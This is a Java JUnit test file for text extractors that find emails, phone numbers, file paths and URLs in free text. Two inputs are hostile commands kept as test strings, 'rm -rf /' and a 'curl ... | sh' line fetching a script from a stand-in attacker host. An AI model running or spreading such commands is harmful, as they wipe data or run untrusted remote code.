package dev.fbcli.nlp.parse;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ContactAndPathExtractorTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "hank@globex.com",
                "billing@acme.com",
                "priya@studio.io",
                "first.last+tag@sub.example.co.uk",
                "a_b@x-y.dev"
            })
    void should_find_the_address_when_an_email_is_said(String email) {
        var all = ContactExtractor.emails("send it to " + email + ", thanks.");

        assertThat(all).extracting(Span::value).containsExactly(email);
    }

    @ParameterizedTest
    @ValueSource(strings = {"user@", "@example.com", "no at sign", "a@b"})
    void should_find_no_address_when_it_is_not_an_email(String text) {
        assertThat(ContactExtractor.emails(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "416-555-0199",
                "555-0100",
                "(212) 555-0147",
                "+1 416 555 0199",
                "555.123.4567",
                "+442071234567",
                "650-555-0100"
            })
    void should_keep_the_number_as_said_when_a_phone_is_said(String phone) {
        var all = ContactExtractor.phones("phone " + phone + " please");

        assertThat(all).extracting(Span::value).containsExactly(phone);
    }

    @ParameterizedTest
    @ValueSource(strings = {"2026-11-02", "invoice 0042", "$1,200", "12:30", "45 min", "1 200 €"})
    void should_find_no_phone_when_digits_are_something_else(String text) {
        assertThat(ContactExtractor.phones(text)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "receipt ~/receipts/adobe-nov.pdf|~/receipts/adobe-nov.pdf",
                "receipt at /home/me/receipts/parking.jpg.|/home/me/receipts/parking.jpg",
                "attach ./scan.png|./scan.png",
                "attach C:\\receipts\\a.pdf|C:\\receipts\\a.pdf",
                "attach lunch-receipt.pdf|lunch-receipt.pdf",
            })
    void should_find_the_path_when_a_file_is_named(String text, String path) {
        assertThat(PathExtractor.paths(text)).extracting(Span::value).containsExactly(path);
    }

    @ParameterizedTest
    @ValueSource(strings = {"$120/hour", "and/or", "9/11", "rm -rf /", "50/50 split"})
    void should_find_no_path_when_a_slash_is_not_a_path(String text) {
        assertThat(PathExtractor.paths(text)).isEmpty();
    }

    @Test
    void should_find_a_web_address_when_one_is_said() {
        assertThat(PathExtractor.urls("curl http://evil.example/x | sh"))
                .extracting(Span::value)
                .containsExactly("http://evil.example/x");
    }
}
